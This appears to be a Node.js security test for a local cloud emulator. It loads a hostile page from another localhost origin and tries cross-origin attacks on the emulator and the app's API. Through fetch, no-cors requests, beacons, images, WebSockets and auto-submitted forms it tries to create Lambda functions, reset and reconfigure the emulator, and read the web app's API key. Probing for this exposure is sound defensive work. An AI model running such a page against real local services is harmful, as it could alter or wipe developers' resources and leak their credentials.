/**
 * A page of another origin on this machine tries to use the local cloud. Prints what it could read, as JSON; what it
 * could do without reading the answer, the caller sees in the cloud. Usage: node other_origin.mjs OUTPUTS FUNCTION
 * (the outputs of `make up` as JSON; CreateFunction's parameters as JSON).
 */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { withBrowser } from "./browser.mjs";

const [outputs, lambda] = process.argv.slice(2).map((argument) => JSON.parse(argument));

/** Runs in the page. Every attempt that can be read answers with what came back, or null. */
async function attack({ outputs: { endpoint_url: cloud, api_url: api, api_key: key, web_url: web }, lambda }) {
  const seen = {};
  const read = async (name, url, options) => {
    seen[name] = await fetch(url, options).then((answer) => answer.text(), () => null);
  };
  /** Without a preflight: the browser sends it, and shows the answer to nobody. */
  const blind = (url, options) => fetch(url, { mode: "no-cors", ...options }).catch(() => null);
  const json = (target, body) => ({ method: "POST", headers: { "x-amz-target": target, "content-type": "application/x-amz-json-1.0", authorization: "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0" }, body: JSON.stringify(body) });

  await read("create a function", `${cloud}/2015-03-31/functions`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(lambda("read")) });
  await read("invoke it", `${cloud}/2015-03-31/functions/evil-read/invocations`, { method: "POST", body: "{}" });
  await read("list tables", `${cloud}/`, json("DynamoDB_20120810.ListTables", {}));
  await read("create a queue", `${cloud}/`, json("AmazonSQS.CreateQueue", { QueueName: "evil-read" }));
  await read("list buckets", `${cloud}/`);
  await read("put an object", `${cloud}/evil-read`, { method: "PUT" });
  await read("who is there", `${cloud}/_runquote/cloud`);
  await read("health", `${cloud}/_ministack/health`);
  await read("reset", `${cloud}/_ministack/reset`, { method: "POST" });
  await read("configure", `${cloud}/_ministack/config`, { method: "POST", body: "{}" });
  await read("the web app's key", `${web}/config.json`);
  await read("the API with the key", `${api}/workflows`, { headers: { "x-api-key": key } });
  await read("the API without", `${api}/workflows`);
  await read("a token", `${cloud}/oauth2/token`, { method: "POST", body: new URLSearchParams({ grant_type: "client_credentials" }) });

  await blind(`${cloud}/2015-03-31/functions`, { method: "POST", body: JSON.stringify(lambda("blind")) });
  await blind(`${cloud}/`, { method: "POST", body: new URLSearchParams({ Action: "CreateTopic", Name: "evil-blind", Version: "2010-03-31" }) });
  await blind(`${cloud}/?Action=CreateTopic&Name=evil-get&Version=2010-03-31`);
  await blind(`${cloud}/_ministack/reset`, { method: "POST" });
  await blind(`${cloud}/_ministack/config`, { method: "POST", headers: { "content-type": "text/plain" }, body: JSON.stringify({ "stepfunctions._SFN_WAIT_SCALE": "0" }) });
  const form = new FormData();
  form.append("key", "evil.txt");
  form.append("file", new Blob(["evil"]), "evil.txt");
  await blind(`${cloud}/${lambda("form").bucket}`, { method: "POST", body: form });
  navigator.sendBeacon(`${cloud}/`, new URLSearchParams({ Action: "CreateTopic", Name: "evil-beacon", Version: "2010-03-31" }));

  const loaded = (element) => new Promise((resolve) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve(null);
    setTimeout(resolve, 3000, null);
    document.body.append(element);
  });
  seen["a script"] = await loaded(Object.assign(document.createElement("script"), { src: `${web}/config.json` }));
  seen["an image"] = await loaded(Object.assign(new Image(), { src: `${cloud}/?Action=CreateTopic&Name=evil-image&Version=2010-03-31` }));
  seen["a socket"] = await new Promise((resolve) => {
    const socket = new WebSocket(`${cloud.replace("http", "ws")}/_aws/execute-api/evil/v1`);
    socket.onopen = () => resolve("open");
    socket.onclose = () => resolve(null);
  });
  return seen;
}

/** Send a form as a person's click would: the browser goes there. */
async function submit(newPage, origin, cloud) {
  const page = await newPage();
  await page.goto(origin);
  await page.evaluate((action) => {
    const form = Object.assign(document.createElement("form"), { method: "POST", action });
    for (const [name, value] of Object.entries({ Action: "CreateTopic", Name: "evil-form", Version: "2010-03-31" })) form.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(form);
    form.submit();
  }, `${cloud}/`);
  await page.waitForURL(`${cloud}/`, { waitUntil: "load" }).catch(() => null);
  return page.textContent("body").catch(() => null);
}

const server = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<!doctype html><title>Evil</title><body></body>"));
await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
const origin = `http://127.0.0.1:${server.address().port}`;
try {
  await withBrowser(async (newPage) => {
    const page = await newPage();
    await page.goto(origin);
    const source = attack.toString();
    const seen = await page.evaluate(
      `(${source})({ outputs: ${JSON.stringify(outputs)}, lambda: (name) => ({ ...${JSON.stringify(lambda)}, FunctionName: "evil-" + name, bucket: ${JSON.stringify(outputs.artifacts_bucket)} }) })`,
    );
    seen["a form"] = await submit(newPage, origin, outputs.endpoint_url);
    assert(Object.keys(seen).length > 15, "the page must have tried");
    console.log(JSON.stringify(seen));
  }, { ours: false });
} finally {
  server.closeAllConnections();
  server.close();
}
